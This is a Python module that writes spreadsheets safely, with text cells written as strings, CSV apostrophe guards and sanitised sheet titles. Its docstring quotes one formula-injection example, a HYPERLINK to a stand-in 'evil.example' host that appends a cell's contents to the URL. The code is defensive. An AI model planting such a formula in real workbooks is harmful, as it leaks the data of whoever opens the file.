"""Spreadsheets written safely and fast: text stays text, a big roster stays one sheet.

Why this module exists:

* **Formula injection.** A name or site typed as ``=HYPERLINK("http://evil.example/?x="&A1,..)``
  must never become a live formula in the workbook a coordinator opens. Every text cell is
  written with ``write_string`` (and the workbook refuses to turn strings into formulas or
  links), so what was typed is what the cell shows, character for character. Numbers are
  written as numbers. CSV files have no cell types, so their free-text columns (a site) get the
  usual guard instead: a leading apostrophe before ``= + - @``, tab or CR
  (:func:`csv_safe_text`).
* **Speed at state size.** Sheets are written row by row in xlsxwriter's ``constant_memory``
  mode (each row goes to disk as soon as the next begins): no shared-string table, no sheet
  held in memory. That is also why every sheet goes through :func:`write_frame`: pandas'
  ``to_excel`` writes column by column, which constant-memory mode cannot take.
"""

from __future__ import annotations

import math
import numbers
from collections.abc import Iterable
from pathlib import Path

import pandas as pd
import xlsxwriter
from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
_SHEET_FORBIDDEN = "[]:*?/\\"


def open_workbook(path: Path) -> Workbook:
    """A workbook that writes text as text, row by row (see the module's docstring)."""
    return xlsxwriter.Workbook(str(path), WORKBOOK_OPTIONS)


def sheet_title(name: str, taken: set[str]) -> str:
    """Excel sheet names: at most 31 characters, none of []:*?/\\, unique (case-insensitive),
    not starting with an apostrophe; a leading formula character becomes ``_`` so a title
    never reads like a formula where it is quoted (links, formulas of other sheets)."""
    clean = "".join("_" if ch in _SHEET_FORBIDDEN or ch < " " else ch for ch in name)
    clean = clean.lstrip("'")
    if clean.startswith(FORMULA_TRIGGERS):
        clean = "_" + clean[1:]
    clean = clean[:31].rstrip("'") or "sheet"
    base, n = clean, 2
    while clean.lower() in taken:
        suffix = f"~{n}"
        clean = base[: 31 - len(suffix)] + suffix
        n += 1
    taken.add(clean.lower())
    return clean


def _is_number(value: object) -> bool:
    return isinstance(value, numbers.Real) and not isinstance(value, bool)


def write_rows(sheet: Worksheet, first_row: int, rows: Iterable[tuple], fmt=None) -> int:
    """Write rows of cells from ``first_row`` on, each by its type: numbers as numbers (nan and
    None blank), everything else as a string. Returns the row after the last one written."""
    r = first_row
    for row in rows:
        for c, value in enumerate(row):
            if value is None or (isinstance(value, float) and math.isnan(value)):
                continue
            if isinstance(value, bool):
                sheet.write_boolean(r, c, value, fmt)
            elif _is_number(value):
                sheet.write_number(r, c, value, fmt)
            else:
                sheet.write_string(r, c, str(value), fmt)
        r += 1
    return r


def sheet_with_header(
    book: Workbook, title: str, frame: pd.DataFrame, taken: set[str]
) -> Worksheet:
    """A new sheet with the table's header in bold, frozen; widths from the first rows."""
    sheet = book.add_worksheet(sheet_title(title, taken))
    header = book.add_format({"bold": True})
    for c, name in enumerate(str(col) for col in frame.columns):
        sheet.set_column(c, c, _width(name, frame.iloc[:50, c]))
        sheet.write_string(0, c, name, header)
    sheet.freeze_panes(1, 0)
    return sheet


def write_frame(
    book: Workbook, title: str, frame: pd.DataFrame, taken: set[str], *, filterable: bool = True
) -> Worksheet:
    """One sheet from a table (:func:`sheet_with_header`), cells by type (:func:`write_rows`),
    an autofilter over the columns unless ``filterable`` is False."""
    sheet = sheet_with_header(book, title, frame, taken)
    end = write_rows(sheet, 1, frame.itertuples(index=False, name=None))
    if filterable and len(frame.columns):
        sheet.autofilter(0, 0, max(end - 1, 1), len(frame.columns) - 1)
    return sheet


def _width(name: str, sample) -> float:
    longest = max([len(name), *(len(str(v)) for v in sample)], default=len(name))
    return min(max(longest + 2, 8), 48)


def csv_safe_text(value: object) -> object:
    """A free-text value for a CSV file a spreadsheet may open: a leading ``'`` where the text
    would otherwise start a formula. Numbers (also "-3.5" as text) and empty cells are kept."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


def keep_text_as_text(sheets) -> None:
    """Cells of openpyxl sheets that openpyxl took for formulas become text again.

    openpyxl reads any string starting with ``=`` that is assigned or appended as a formula.
    coachmatch writes no formulas, so every such cell holds input text (a name, a site):
    it is saved as the string it is.
    """
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def csv_safe(frame: pd.DataFrame, columns: Iterable[str]) -> pd.DataFrame:
    """A copy of ``frame`` whose free-text ``columns`` (sites, regions: input text) are guarded
    by :func:`csv_safe_text` for a CSV file; ids and figures are left exactly as they are."""
    safe = frame.copy()
    for column in columns:
        if column in safe:
            safe[column] = safe[column].map(csv_safe_text)
    return safe
